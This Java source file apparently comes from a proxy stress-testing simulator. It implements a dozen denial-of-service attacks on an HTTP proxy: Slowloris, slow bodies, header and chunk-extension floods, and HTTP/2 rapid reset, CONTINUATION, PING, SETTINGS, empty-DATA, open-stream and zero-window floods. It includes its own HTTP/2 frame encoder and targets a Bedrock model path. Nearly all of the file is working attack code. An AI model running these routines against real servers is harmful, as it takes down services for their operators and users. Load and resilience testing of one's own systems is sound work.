package io.bedrockmeter.simulator.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;

/**
 * A way to wear a proxy down. Each talks on one connection until the other side has enough; then it comes again. None is fast: the
 * point is what a proxy does for what it is sent, not how many bytes a network carries.
 */
enum Kind {
    /** Slowloris: a head that never ends. */
    SLOW_HEAD {
        @Override
        void talk(Line line) throws IOException {
            line.send("POST " + PATH + " HTTP/1.1\r\nHost: h\r\nX-Slow: ");
            while (line.pause()) {
                line.send("x");
            }
        }
    },

    /** A body that trickles. */
    SLOW_BODY {
        @Override
        void talk(Line line) throws IOException {
            line.send("POST " + PATH + " HTTP/1.1\r\nHost: h\r\nContent-Length: 5000000\r\n\r\n{");
            while (line.pause()) {
                line.send(" ");
            }
        }
    },

    /** A head of more fields than anybody may send. */
    MANY_FIELDS {
        @Override
        void talk(Line line) throws IOException {
            line.send("POST " + PATH + " HTTP/1.1\r\nHost: h\r\n");
            while (line.pause()) {
                line.send("X-Flood: y\r\n".repeat(200));
            }
        }
    },

    /** A body in chunks whose extensions are all there is to it. */
    CHUNK_EXTENSIONS {
        @Override
        void talk(Line line) throws IOException {
            line.send("POST " + PATH + " HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n");
            while (line.pause()) {
                line.send(("1;" + "x".repeat(4_000) + "\r\n \r\n").repeat(4));
            }
        }
    },

    /** Requests whose refusals are never read. */
    UNREAD_ANSWERS {
        @Override
        void talk(Line line) throws IOException {
            while (line.pause()) {
                line.send("GET /nowhere HTTP/1.1\r\nHost: h\r\n\r\n".repeat(30));
            }
        }
    },

    /** Rapid reset: calls that are begun, sent on, and left. */
    RESETS {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            for (int stream = 1; line.pause(); ) {
                for (int i = 0; i < 20; i++, stream += 2) {
                    line.send(Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, stream, Http2.HEAD));
                    line.send(Http2.frame(Http2.RST_STREAM, 0, stream, Http2.CANCEL));
                }
            }
        }
    },

    /** A head in frames without end. */
    CONTINUATIONS {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            line.send(Http2.frame(Http2.HEADERS, 0, 1, Http2.HEAD));
            while (line.pause()) {
                for (int i = 0; i < 50; i++) {
                    line.send(Http2.frame(Http2.CONTINUATION, 0, 1, Http2.field("x-" + i, "y".repeat(20))));
                }
            }
        }
    },

    /** Questions whose answers are never read. */
    PINGS {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            while (line.pause()) {
                for (int i = 0; i < 400; i++) {
                    line.send(Http2.frame(Http2.PING, 0, 0, new byte[8]));
                }
            }
        }
    },

    /** Settings that each must be acknowledged. */
    SETTINGS {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            while (line.pause()) {
                for (int i = 0; i < 400; i++) {
                    line.send(Http2.frame(Http2.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, (byte) (i >> 8), (byte) i}));
                }
            }
        }
    },

    /** A body of nothing. */
    EMPTY_DATA {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            line.send(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, 1, Http2.HEAD));
            while (line.pause()) {
                for (int i = 0; i < 200; i++) {
                    line.send(Http2.frame(Http2.DATA, 0, 1, new byte[0]));
                }
            }
        }
    },

    /** As many streams as there may be, none of which ever has a body. */
    OPEN_STREAMS {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            for (int stream = 1; stream < 200; stream += 2) {
                line.send(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, stream, Http2.HEAD));
            }
            while (line.pause()) {
                line.send(Http2.frame(Http2.DATA, 0, 1, new byte[] {' '}));
            }
        }
    },

    /** Calls whose answers no window has room for. */
    NO_WINDOW {
        @Override
        void talk(Line line) throws IOException {
            line.send(Http2.GREETING);
            line.send(Http2.frame(Http2.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 0}));
            for (int stream = 1; stream < 40 && line.pause(); stream += 2) {
                line.send(Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, stream, Http2.HEAD));
            }
            while (line.pause()) {
                line.send(Http2.frame(Http2.PING, 0, 0, new byte[8]));
            }
        }
    };

    private static final String PATH = "/model/amazon.nova-lite-v1%3A0/converse";

    /** Talks until the siege is over; ends with an exception when the other side has closed. */
    abstract void talk(Line line) throws IOException;

    /** Just enough of HTTP/2 to be sent. */
    private static final class Http2 {
        static final int DATA = 0;
        static final int HEADERS = 1;
        static final int RST_STREAM = 3;
        static final int SETTINGS = 4;
        static final int PING = 6;
        static final int CONTINUATION = 9;
        static final int END_STREAM = 1;
        static final int END_HEADERS = 4;
        static final byte[] CANCEL = {0, 0, 0, 8};

        static final byte[] GREETING =
                joined("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII), frame(SETTINGS, 0, 0, new byte[0]));

        static final byte[] HEAD = joined(
                field(":method", "POST"), field(":scheme", "http"), field(":path", PATH), field(":authority", "h"));

        static byte[] frame(int type, int flags, int stream, byte[] payload) {
            int length = payload.length;
            byte[] head = {
                (byte) (length >> 16),
                (byte) (length >> 8),
                (byte) length,
                (byte) type,
                (byte) flags,
                (byte) (stream >> 24),
                (byte) (stream >> 16),
                (byte) (stream >> 8),
                (byte) stream
            };
            return joined(head, payload);
        }

        /** A field as a literal that is not to be indexed; name and value shorter than 127. */
        static byte[] field(String name, String value) {
            return joined(
                    new byte[] {0, (byte) name.length()},
                    name.getBytes(US_ASCII),
                    new byte[] {(byte) value.length()},
                    value.getBytes(US_ASCII));
        }

        private static byte[] joined(byte[]... parts) {
            int length = 0;
            for (byte[] part : parts) {
                length += part.length;
            }
            byte[] all = new byte[length];
            int at = 0;
            for (byte[] part : parts) {
                System.arraycopy(part, 0, all, at, part.length);
                at += part.length;
            }
            return all;
        }
    }
}
